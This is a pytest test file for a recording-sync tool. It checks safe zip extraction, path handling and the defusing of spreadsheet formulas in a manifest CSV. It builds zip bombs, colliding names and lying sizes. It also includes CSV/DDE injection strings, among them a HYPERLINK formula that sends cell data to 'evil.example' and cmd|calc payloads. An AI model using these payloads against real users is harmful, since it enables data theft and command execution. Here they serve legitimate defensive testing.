"""Hostile answers to a recording sync (issue 11 item 3) and the manifest's defusing (item 6):

* :func:`callcore.platforms.archive.safe_extract` refuses empty, overlong and colliding member
  names, too many members and zip bombs, each with its own error, and never raises anything but
  its own errors (hypothesis), never writes outside its folder;
* :func:`safe_local_path` never leaves its root and gives names the OS can store (hypothesis);
* a sync whose platform serves hostile zips (under an audio name) marks those recordings failed
  with the reason and converts the others, and a rerun does not die on them; a zip served under
  an audio name is extracted, not "converted" as noise;
* ``manifest.csv`` defuses formula-like text from the platform's listing.
"""
from __future__ import annotations

import csv
import io
import tempfile
import warnings
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
import soundfile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from callcore.pipelines.recordings import safe_local_path, sync_recordings
from callcore.platforms import archive
from callcore.platforms.errors import ProtocolError
from callcore.sandbox import audio as sbaudio

from . import platform_sync as ps

FMT = ps.FMT


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some cases
        with zipfile.ZipFile(buf, "w", compression) as z:
            for name, data in members:
                z.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buf.getvalue()


def _bomb() -> bytes:
    """The issue's case: 100 MB of zeros deflated into about 102 KB."""
    return zip_bytes([("r.V3", bytes(100 << 20))], zipfile.ZIP_DEFLATED)


HOSTILE = {
    "long-name": (lambda: zip_bytes([("x" * 300 + ".V3", b"\xd5" * 800)]), archive.ArchiveNameError, "255"),
    "file-and-folder": (lambda: zip_bytes([("a", b"\xd5" * 800), ("a/b", b"\xd5" * 800)]),
                        archive.ArchiveCollisionError, "collide"),
    "empty-name": (lambda: zip_bytes([("", b"\xd5" * 800)]), archive.ArchiveNameError, "empty"),
    "duplicate": (lambda: zip_bytes([("r.V3", b"\xd5" * 800), ("r.V3", b"\x55" * 800)]),
                  archive.ArchiveCollisionError, "same file"),
    "case": (lambda: zip_bytes([("R.v3", b"\xd5" * 800), ("r.V3", b"\x55" * 800)]),
             archive.ArchiveCollisionError, "same file"),
    "bomb": (_bomb, archive.ArchiveLimitError, "zip bomb"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_safe_extract_refuses_with_its_own_error(tmp_path, case):
    make, err, words = HOSTILE[case]
    z = tmp_path / "x.zip"
    z.write_bytes(make())
    out = tmp_path / "out"
    with pytest.raises(err, match=words) as ei:
        archive.safe_extract(z, out)
    assert str(z) in str(ei.value) and ei.value.archive == str(z) and ei.value.limit
    assert isinstance(ei.value, ProtocolError)
    assert not out.exists() or [p for p in out.rglob("*") if p.is_file()] == [], "nothing written"


def test_safe_extract_member_count_limit(tmp_path):
    z = tmp_path / "many.zip"
    z.write_bytes(zip_bytes([(f"{i}.V3", b"") for i in range(archive.MAX_MEMBERS + 1)]))
    with pytest.raises(archive.ArchiveLimitError, match=f"more than the limit of {archive.MAX_MEMBERS}") as ei:
        archive.safe_extract(z, tmp_path / "o")
    assert ei.value.limit == f"MAX_MEMBERS={archive.MAX_MEMBERS}"
    z.write_bytes(zip_bytes([("a.V3", b"1" * 2000), ("b.V3", b"2" * 2000)]))
    with pytest.raises(archive.ArchiveLimitError, match="more than the limit of 3000"):
        archive.safe_extract(z, tmp_path / "o", max_total_bytes=3000)


def test_safe_extract_lying_size(tmp_path):
    """A member whose data runs past the size the central directory declares is refused (the
    declared sizes are what the limits were checked against)."""
    data = bytearray(zip_bytes([("r.V3", b"\xd5" * 4000)]))
    # shrink the declared uncompressed size in the central directory only (local header stays)
    cd = data.rindex(b"PK\x01\x02")
    data[cd + 24:cd + 28] = (100).to_bytes(4, "little")
    z = tmp_path / "lie.zip"
    z.write_bytes(bytes(data))
    with pytest.raises(ProtocolError):
        archive.safe_extract(z, tmp_path / "o")
    assert not (tmp_path / "o" / "r.V3").exists()


def test_safe_extract_keeps_what_is_fine(tmp_path):
    z = tmp_path / "ok.zip"
    z.write_bytes(zip_bytes([("d/", b""), ("d/a.V3", b"1"), ("d/b.V3", b"2"), ("./c.V3", b"3")]))
    got = archive.safe_extract(z, tmp_path / "o")
    assert [p.relative_to(tmp_path / "o").as_posix() for p in got] == ["d/a.V3", "d/b.V3", "c.V3"]


_name_part = st.one_of(st.sampled_from(["", ".", "..", "a", "A", "b", "C:", "x" * 256, "é", "e\u0301", " ", "\\"]),
                       st.text(min_size=0, max_size=12))
_names = st.lists(_name_part, min_size=1, max_size=4).map("/".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(members=st.lists(st.tuples(_names, st.binary(max_size=64), st.booleans()), min_size=1, max_size=6))
def test_safe_extract_property(tmp_path, members):
    """Whatever the members: either every file lands under the folder, or the module's own error
    (a ProtocolError) is raised and nothing is left; never any other exception."""
    base = Path(tempfile.mkdtemp(dir=tmp_path))
    z = base / "x.zip"
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data, link in members:
                info = zipfile.ZipInfo(name)
                if link:
                    info.external_attr = (0o120777 << 16) if len(data) % 2 else (0o100644 << 16)
                zf.writestr(info, data)
    z.write_bytes(buf.getvalue())
    root = base / "root"
    try:
        files = archive.safe_extract(z, root)
    except ProtocolError:
        files = []
        assert not root.exists() or [p for p in root.rglob("*") if p.is_file()] == []
    for f in files:
        assert root.resolve() in f.resolve().parents
    outside = [p for p in base.rglob("*") if p.is_file() and p != z and root not in p.parents]
    assert outside == []


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(remote=st.one_of(_names, st.text(max_size=600)), suffix=st.sampled_from([None, ".wav", ".mp3"]))
def test_safe_local_path_property(tmp_path, remote, suffix):
    """Any remote name maps under the root, to a path whose components the OS can store (the
    module's ValueError is the only error allowed)."""
    try:
        p = safe_local_path(remote, tmp_path, suffix)
    except ValueError:
        return
    rel = p.relative_to(tmp_path.resolve())
    assert rel.parts and ".." not in rel.parts
    assert all(0 < len(part.encode("utf-8", "surrogateescape")) <= 255 for part in rel.parts), rel
    if suffix:
        assert p.suffix == suffix


# ------------------------------------------------------------------------------------------ a sync
def _sccc_with_calls(tmp_path, n=12):
    sb = ps.start("sccc", tmp_path / "sccc")
    now = datetime.now().replace(microsecond=0)
    ps.make_calls("sccc", sb, n, now, 0)
    b, e = (now - timedelta(hours=1)).strftime(FMT), now.strftime(FMT)
    return sb, b, e, ps.expected("sccc", sb, b, e)


def test_sync_survives_hostile_zips(tmp_path, monkeypatch):
    """The platform answers some downloads with hostile zips under their ``.wav`` names: those
    recordings are failed with the archive's error, the others converted; a zip holding the
    recording itself is extracted and converted to the right audio, not decoded as noise; a rerun
    fetches nothing again and does not stop on them."""
    sb, b, e, exp = _sccc_with_calls(tmp_path)
    assert len(exp) >= len(HOSTILE) + 2
    hostile = {x.remote_file: case for x, case in zip(exp, sorted(HOSTILE))}
    zipped = exp[len(HOSTILE)]  # its real recording, inside a zip, under its .wav name
    real_served = sbaudio.served

    def served(key, seconds, fmt="alaw"):
        if key in hostile:
            return HOSTILE[hostile[key]][0](), "audio/x-wav"
        if key == zipped.remote_file:
            body, _ = real_served(key, seconds, fmt)
            return zip_bytes([("inner/" + Path(key).name, body)], zipfile.ZIP_DEFLATED), "audio/x-wav"
        return real_served(key, seconds, fmt)

    monkeypatch.setattr(sbaudio, "served", served)
    out = tmp_path / "out"
    s = sync_recordings(ps.options("sccc", sb, out, b, e))
    assert (s.recordings, s.failed, s.converted) == (len(exp), len(HOSTILE), len(exp) - len(HOSTILE))
    assert not s.complete and len(s.errors) == len(HOSTILE)
    man = {m["remote_file"]: m for m in csv.DictReader(open(out / "manifest.csv", encoding="utf-8"))}
    for remote, case in hostile.items():
        words = HOSTILE[case][2]
        assert man[remote]["state"] == "failed" and words in man[remote]["error"], (case, man[remote]["error"])
        assert not (out / man[remote]["output"]).exists()
    m = man[zipped.remote_file]
    assert m["state"] == "converted"
    got, rate = soundfile.read(str(out / m["output"]), dtype="int16")
    assert rate == 8000 and np.array_equal(got, sbaudio.alaw2lin(sbaudio.v3_bytes(zipped.remote_file, zipped.seconds)))
    served_before = sum(sb.counter.served.values())
    s2 = sync_recordings(ps.options("sccc", sb, out, b, e))
    assert (s2.downloaded_now, s2.converted_now, s2.failed, s2.converted) == (0, 0, len(HOSTILE), s.converted)
    assert sum(sb.counter.served.values()) == served_before
    src = out / ".callcore-sync" / "src"
    assert not src.exists() or [p for p in src.rglob("*") if p.is_file()] == [], "hostile downloads not kept"
    sb.stop()


def test_sync_one_recording_oserror_does_not_end_the_run(tmp_path, monkeypatch):
    """An error that is not a PlatformError (here the OS refusing a write) fails that recording
    with its reason; the run goes on."""
    sb, b, e, exp = _sccc_with_calls(tmp_path, 8)
    from callcore.platforms import sccc as sccc_mod

    bad = exp[0].remote_file
    real = sccc_mod.ScccClient.download_recording

    def download(self, filename, dest):
        if filename == bad:
            raise PermissionError(13, "Permission denied", str(dest))
        return real(self, filename, dest)

    monkeypatch.setattr(sccc_mod.ScccClient, "download_recording", download)
    out = tmp_path / "out"
    s = sync_recordings(ps.options("sccc", sb, out, b, e))
    assert (s.failed, s.converted) == (1, len(exp) - 1)
    man = {m["remote_file"]: m for m in csv.DictReader(open(out / "manifest.csv", encoding="utf-8"))}
    assert man[bad]["state"] == "failed" and "Permission denied" in man[bad]["error"]
    sb.stop()


def test_manifest_defuses_platform_text(tmp_path, monkeypatch):
    """Text from the platform's listing that a spreadsheet would run as a formula gets the
    call-list writer's ``'`` prefix in manifest.csv (=, +, -, @, TAB, CR)."""
    sb, b, e, exp = _sccc_with_calls(tmp_path, 8)
    st_ = sb.app.state
    evil = {"agent": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "caller": "+1+cmd|' /C calc'!A0",
            "callee": "@SUM(1+1)*cmd|' /C calc'!A0"}
    st_.many("UPDATE records SET agent=?, caller=?, callee=?", [(evil["agent"], evil["caller"], evil["callee"])])
    out = tmp_path / "out"
    s = sync_recordings(ps.options("sccc", sb, out, b, e))
    assert s.converted == len(exp)
    rows = list(csv.DictReader(open(out / "manifest.csv", encoding="utf-8")))
    assert rows and all(r["agent"] == "'" + evil["agent"] for r in rows)
    assert all(r["caller"] == "'" + evil["caller"] and r["callee"] == "'" + evil["callee"] for r in rows)
    for r in rows:
        for col, v in r.items():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (col, v)
    sb.stop()


@pytest.mark.parametrize("cell,want", [("=1+1", "'=1+1"), ("+86", "'+86"), ("-2", "'-2"), ("@a", "'@a"),
                                       ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), ("'=x", "''=x"), ("'a", "'a"),
                                       (" =x", " =x")])
def test_defuse_rule_matches_the_calllist_writer(tmp_path, cell, want):
    """The manifest's rule is the call-list writer's: the same cells prefixed, with the same
    prefix (checked against ``calllist.clean`` on the same cell; CR is left out there, the
    reader's line-end handling is not what is compared)."""
    from callcore import calllist
    from callcore.pipelines.recordings import defuse

    assert defuse(cell) == want
    if "\r" in cell:
        return
    src = tmp_path / "in.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["phone", "note"], ["13800138000", cell]])
    calllist.clean(str(src), str(tmp_path / "clean.csv"), defuse=True)
    rows = list(csv.reader(open(tmp_path / "clean.csv", encoding="utf-8-sig", newline="")))
    assert rows[1][1] == defuse(cell)


def test_sync_batch_transcode_error_fails_only_the_bad_file(tmp_path, monkeypatch):
    """When the batch transcoder raises as a whole (a panic turned into an exception), the
    chunk is converted one file at a time: the file at fault is failed, the others converted."""
    from callcore import audio

    sb, b, e, exp = _sccc_with_calls(tmp_path, 8)
    bad = exp[0].remote_file
    real_served = sbaudio.served

    def served(key, seconds, fmt="alaw"):
        if key == bad:  # a RIFF header announcing a format no decoder has
            return b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x99\x99\x01\x00" + bytes(12) + b"data\x00\x00\x00\x00", \
                "audio/x-wav"
        return real_served(key, seconds, fmt)

    def broken_batch(*a, **kw):
        raise RuntimeError("transcode_many panicked")

    monkeypatch.setattr(sbaudio, "served", served)
    monkeypatch.setattr(audio, "transcode_many", broken_batch)
    out = tmp_path / "out"
    s = sync_recordings(ps.options("sccc", sb, out, b, e))
    assert (s.failed, s.converted) == (1, len(exp) - 1)
    man = {m["remote_file"]: m for m in csv.DictReader(open(out / "manifest.csv", encoding="utf-8"))}
    assert man[bad]["state"] == "failed" and man[bad]["error"].startswith("transcode: ")
    sb.stop()


def test_huawei_zip_under_a_v3_name_is_unpacked(sandbox_factory, tmp_path, monkeypatch):
    """The issue's case: Huawei's downloadRecord answers a ``.V3`` name with a zip. Told by its
    content, it is unpacked and its recording converted; before, the zip's bytes were decoded as
    headerless audio (noise) and marked converted."""
    from callcore.pipelines.recordings import SyncOptions

    from .test_recordings import _seed_calls, _window

    sb = sandbox_factory()
    recs = _seed_calls(sb, 4)
    index_csv = sb.app._record_csv

    def index_without_file_names(calls):  # the index then names each recording by its .V3 only
        rows = list(csv.reader(index_csv(calls).decode().splitlines()))
        col = rows[0].index("file_name")
        for row in rows[1:]:
            row[col] = ""
        return sb.app._csv(rows[0], rows[1:])

    monkeypatch.setattr(sb.app, "_record_csv", index_without_file_names)
    zipped = recs[0]["original_file_name"]
    real = sb.app._recording_bytes

    def recording_bytes(rec):
        data = real(rec)
        if rec["original_file_name"] == zipped:
            return zip_bytes([(Path(zipped).name, data)], zipfile.ZIP_DEFLATED)
        return data

    monkeypatch.setattr(sb.app, "_recording_bytes", recording_bytes)
    b, e = _window()
    out = tmp_path / "out"
    s = sync_recordings(SyncOptions(sb.url, sb.access_key, sb.secret_key, begin=b, end=e, out_dir=str(out)))
    assert s.complete and s.converted == len(recs)
    man = {m["remote_original"]: m for m in csv.DictReader(open(out / "manifest.csv", encoding="utf-8"))}
    for r in recs:
        m = man[r["original_file_name"].replace("/", "\\")]
        got, rate = soundfile.read(str(out / m["output"]), dtype="int16")
        want = sbaudio.alaw2lin(sbaudio.v3_bytes(r["original_file_name"], float(r["seconds"])))
        assert rate == 8000 and np.array_equal(got, want), (m["output"], len(got), len(want))


def test_manifest_output_path_starting_like_a_formula_still_names_the_file(tmp_path):
    """A remote name starting with ``=`` or ``-`` gives an output path written as ``./=...``:
    not a formula, and still the path of the file."""
    from callcore.pipelines.recording_sources import RemoteRecording
    from callcore.pipelines.recordings import SyncOptions

    class Source:
        platform = "custom"
        max_window = None
        recording_format = "alaw"

        def list_window(self, begin, end, note):
            return [RemoteRecording(key=k, call_id=k, remote_file=f"{k}.V3", seconds=1.0)
                    for k in ("=cmd|'calc'!A0", "-x", "@y", "plain")]

        def source_name(self, rec):
            return rec.remote_file, None

        def download(self, rec, dest):
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.write_bytes(sbaudio.v3_bytes(rec.key, 1.0))
            return dest

        def close(self):
            pass

    out = tmp_path / "out"
    s = sync_recordings(SyncOptions("http://unused", "u", "p", begin="2024-01-01 00:00:00", end="2024-01-01 01:00:00",
                                    out_dir=str(out), source=Source(), settle_minutes=0))
    assert s.converted == 4
    rows = list(csv.DictReader(open(out / "manifest.csv", encoding="utf-8")))
    for r in rows:
        assert (out / r["output"]).is_file(), r["output"]
        for col, v in r.items():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (col, v)
    assert sorted(r["output"] for r in rows) == ["./-x.wav", "./=cmd_'calc'!A0.wav", "./@y.wav", "plain.wav"]
